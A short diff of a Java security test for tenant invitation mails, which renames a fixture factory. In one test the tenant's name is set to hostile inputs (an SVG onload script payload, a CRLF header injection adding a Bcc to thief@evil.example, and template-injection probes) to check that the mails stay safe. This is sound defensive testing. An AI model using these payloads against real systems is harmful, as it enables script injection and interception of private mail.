@@ -55,7 +55,7 @@ class InvitationSecretsTest {
 
     @Test
     void aMailIsPlainTextForOneReaderWithNobodyElsesLinkWhateverTheTenantIsCalled() throws Exception {
-        try (Organisation own = Organisation.withQuota(1)) {
+        try (Organisation own = Organisation.whole(1)) {
             Database.SUPERUSER.execute("update tenancy.tenant set name = "
                     + "E'\"><svg onload=alert(1)>\\r\\nBcc: thief@evil.example\\r\\n\\r\\n{inject:shell}{{7*7}}' where id = '"
                     + own.id() + "'");
@@ -81,8 +81,8 @@ class InvitationSecretsTest {
 
     @Test
     void anInvitationTellsNothingOfWhoHasAnAccountElsewhere() {
-        try (Organisation own = Organisation.withQuota(1);
-                Organisation elsewhere = Organisation.withQuota(1)) {
+        try (Organisation own = Organisation.whole(1);
+                Organisation elsewhere = Organisation.whole(1)) {
             Member admin = own.member("tenant-admin");
             List<Heard> known = new ArrayList<>();
             List<Heard> unknown = new ArrayList<>();
